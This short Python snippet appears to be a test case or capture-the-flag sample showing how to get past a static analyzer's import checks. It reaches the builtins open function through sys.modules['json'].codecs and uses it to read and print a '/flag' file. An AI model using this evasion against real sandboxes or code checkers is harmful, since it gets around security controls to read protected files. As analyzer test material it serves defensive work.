# `sys.modules["json"]` is documented as no finding, and json is a harmless
# module. json's module namespace holds codecs, whose namespace holds builtins:
# open is reached as an attribute of a receiver the analyzer cannot type.
import json
import sys

codec_support = sys.modules["json"].codecs
runtime = codec_support.builtins
with runtime.open("/flag") as fh:
    print(json.dumps({"flag": fh.read().strip()}))
